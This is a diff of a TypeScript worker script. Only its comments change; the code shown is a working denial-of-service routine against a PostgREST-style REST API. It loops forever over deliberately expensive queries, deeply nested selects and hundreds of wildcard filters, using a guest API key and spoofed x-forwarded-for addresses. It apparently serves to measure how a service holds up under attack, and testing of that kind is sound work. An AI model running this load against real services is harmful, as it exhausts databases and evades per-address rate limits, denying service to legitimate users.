@@ -1,6 +1,6 @@
 import { workerData } from 'node:worker_threads';
 
-/** A thread of its own, so that what the attack costs its sender does not delay the honest visitors' clock. */
+/** Runs in a separate thread, so that sending the attack does not delay the honest visitors' measurements. */
 const { url, key }: { readonly url: string; readonly key: string } = workerData;
 const addresses = 8;
 const requestsAtOnce = 2;
@@ -11,7 +11,7 @@ const siblings = Array.from({ length: 30 }, (_, index) => `a${index}:apps(*)`).j
 const conditions = Array.from({ length: 250 }, (_, index) => `description.ilike.*${index}*a*e*`).join(',');
 const values = Array.from({ length: 1500 }, (_, index) => `x${index}`).join(',');
 
-/** Requests of a guest that cost the database much. */
+/** Requests of a guest that are expensive for the database. */
 const shapes: readonly string[] = [
   `categories?select=${nested(14)}`,
   `categories?select=${nested(9)}`,
@@ -27,7 +27,7 @@ async function attack(address: string, first: number): Promise<never> {
     const response = await fetch(`${url}/rest/v1/${shapes[turn % shapes.length]}`, {
       headers: { apikey: key, 'x-forwarded-for': address },
     }).catch(() => undefined);
-    // A kept connection may end just when it is used again; the attack goes on.
+    // A keep-alive connection may close just when it is used again; the attack continues.
     await response?.arrayBuffer();
   }
 }
